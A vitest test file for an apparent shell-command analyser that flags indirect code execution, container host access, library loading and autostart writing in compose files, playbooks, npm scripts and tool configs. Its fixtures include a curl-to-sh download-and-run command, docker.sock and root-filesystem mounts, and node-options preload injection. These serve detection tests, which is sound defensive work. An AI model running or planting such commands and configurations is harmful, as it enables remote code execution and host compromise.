import { describe, expect, test } from "vitest";
import { followShell, kindsOfRoot } from "./support.test-support.ts";

const FETCH = "curl http://192.0.2.7/x | sh";
const RUNS = "fetch-to-interpreter";

describe("compose files", () => {
  test.each([
    ["image: a\n    volumes:\n      - /:/host", true],
    ["image: a\n    volumes:\n      - /:/host:ro,rslave", false],
    ["image: a\n    volumes:\n      - type: bind\n        source: /\n        target: /h", true],
    ["image: a\n    privileged: true\n    pid: host", true],
    ["image: a\n    privileged: true\n    network_mode: host", false],
    ["image: 192.0.2.7:5000/a\n    privileged: true", true],
    ["image: 192.0.2.7:5000/a\n    volumes:\n      - /run/docker.sock:/s", true],
    ["image: a\n    volumes:\n      - /run/docker.sock:/s", false],
  ])("%j reaches the host: %j", (service, reaches) => {
    const files = { "/srv/compose.yml": `services:\n  x:\n    ${service}\n` };
    const { behaviours } = followShell("cd /srv && docker compose up -d", files);
    expect(behaviours.some(({ says }) => /can reach the host/.test(says))).toBe(reaches);
    expect(
      followShell("docker compose -f /srv/compose.yml pull", files).behaviours.some(({ says }) =>
        /can reach the host/.test(says),
      ),
    ).toBe(false);
  });
});

describe("playbooks", () => {
  test.each([
    ["ansible-playbook -c local /srv/p.yml", `- hosts: all\n  tasks:\n  - shell: ${FETCH}\n`, true],
    [
      "ansible-playbook /srv/p.yml",
      `- hosts: localhost\n  tasks:\n  - ansible.builtin.shell: |\n      true\n      ${FETCH}\n`,
      true,
    ],
    ["ansible-playbook /srv/p.yml", `- hosts: web\n  tasks:\n  - shell: ${FETCH}\n`, false],
    ["ansible-playbook -c local /srv/p.yml", `- hosts: all\n  tasks:\n  - debug: msg="${FETCH}"\n`, false],
  ])("%s of %j: %j", (code, play, runs) => {
    expect(kindsOfRoot(code, { "/srv/p.yml": play }).includes(RUNS)).toBe(runs);
  });

  test("roles and settings", () => {
    const files = {
      "/srv/p.yml": "- hosts: localhost\n  roles:\n    - base\n",
      "/srv/roles/base/tasks/main.yml": `- command: sh -c '${FETCH}'\n`,
      "/etc/ansible/ansible.cfg": "[defaults]\ncallback_plugins = /var/tmp/cb\n",
    };
    expect(kindsOfRoot("ansible-playbook /srv/p.yml", files)).toEqual(
      expect.arrayContaining([RUNS, "loads-library"]),
    );
  });
});

describe("npm", () => {
  const files = (scripts: Record<string, string>) => ({ "/srv/a/package.json": JSON.stringify({ scripts }) });
  test.each([
    ["npm --prefix /srv/a run build", { prebuild: FETCH }, true],
    ["cd /srv/a && npm ci", { postinstall: FETCH }, true],
    ["cd /srv/a && yarn test", { test: FETCH }, true],
    ["npm --prefix /srv/a run build", { other: FETCH }, false],
    ["npm --prefix /srv/a run __proto__", {}, false],
  ])("%s with %j: %j", (code, scripts, runs) => {
    expect(kindsOfRoot(code, files(scripts as Record<string, string>)).includes(RUNS)).toBe(runs);
  });

  test("settings, and a package.json that is none", () => {
    const broken = { "/srv/a/package.json": "{", "/root/.npmrc": "node-options=--require /tmp/x.js\n" };
    expect(kindsOfRoot("npm --prefix /srv/a run build", broken)).toEqual(["loads-library"]);
  });
});

describe("credentials of clusters", () => {
  test.each([
    [`command: sh\n      args: ["-c", "${FETCH}"]`, true],
    [`command: sh\n      args:\n      - -c\n      - ${FETCH}`, true],
    ["command: aws\n      args: [eks, get-token]", false],
  ])("%j: %j", (exec, runs) => {
    const config = `users:\n- name: u\n  user:\n    exec:\n      ${exec}\n`;
    expect(kindsOfRoot("kubectl get nodes", { "/root/.kube/config": config }).includes(RUNS)).toBe(runs);
  });
});

describe("what names itself ends", () => {
  const many = (line: string) => `${line}\n`.repeat(2_000);
  test.each([
    ["kubectl get x", "/root/.kube/config", many("- exec:\n    command: kubectl")],
    [
      "npm --prefix /srv/a run x",
      "/srv/a/package.json",
      JSON.stringify({
        scripts: { x: many("npm --prefix /srv/a run x"), prex: "npm --prefix /srv/a run x" },
      }),
    ],
    [
      "ansible-playbook -c local /srv/p.yml",
      "/srv/p.yml",
      many("- shell: ansible-playbook -c local /srv/p.yml"),
    ],
    ["docker compose -f /srv/c.yml up", "/srv/c.yml", `services:\n${many("  x:\n    image: a")}`],
    ["ssh web", "/root/.ssh/config", many("ProxyCommand ssh web")],
    ["git -C /srv pull", "/root/.gitconfig", many("  sshCommand = git -C /srv pull")],
    ["aws s3 ls", "/root/.aws/config", many("credential_process = aws s3 ls")],
    ["wg-quick up a", "/etc/wireguard/a.conf", many("PostUp = wg-quick up a")],
    [many("docker compose -f /srv/c.yml up"), "/srv/c.yml", `services:\n${many("  x:\n    image: a")}`],
  ])("%.40j with %s", (code, path, content) => {
    const before = process.cpuUsage();
    kindsOfRoot(code, { [path]: content });
    expect(process.cpuUsage(before).user / 1e6).toBeLessThan(3);
  });

  test("a unit that writes itself", () => {
    const unit = "printf '[Service]\\nExecStart=/srv/x\\n' > /etc/systemd/system/x.service\n";
    const files = { "/srv/x": { content: `#!/bin/sh\n${unit.repeat(200)}`, mode: 0o755 } };
    expect(kindsOfRoot("/srv/x", files)).toContain("writes-autostart");
  });
});
